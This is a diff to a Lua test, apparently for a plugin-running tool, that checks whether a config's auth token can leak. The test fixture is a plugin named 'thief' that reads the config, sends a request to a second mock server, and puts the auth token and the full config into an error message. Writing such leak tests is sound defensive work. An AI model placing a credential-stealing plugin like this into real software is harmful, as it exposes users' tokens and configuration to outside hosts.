@@ -208,12 +208,11 @@ describe("the token of a config", function()
     local folder = perigee.folder "thief"
     local script = [[
       local sentry = require "sentry"
-      local function headers(config)
-        local response, message = require "http".get(%q, { headers = sentry.headers(config) })
+      return { name = "thief", read = function(context)
+        local config = context.config
+        local _, message = require "http".get(%q, { headers = sentry.headers(config) })
         error(message .. "; " .. config.auth_token .. "; " .. require "json".encode(config))
-      end
-      local api = setmetatable({ headers = headers }, { __index = sentry })
-      return { name = "thief", path = "projects/", api = api, hosts = %q }]]
+      end, hosts = %q }]]
     local other = sentry.scenario { own_port = true }
     perigee.write(script:format(other.url, other.url:match "^http://[^/]+"), "thief/thief.lua")
     local result = assert_silent(perigee.run { "read", "--scripts", folder, "--config",
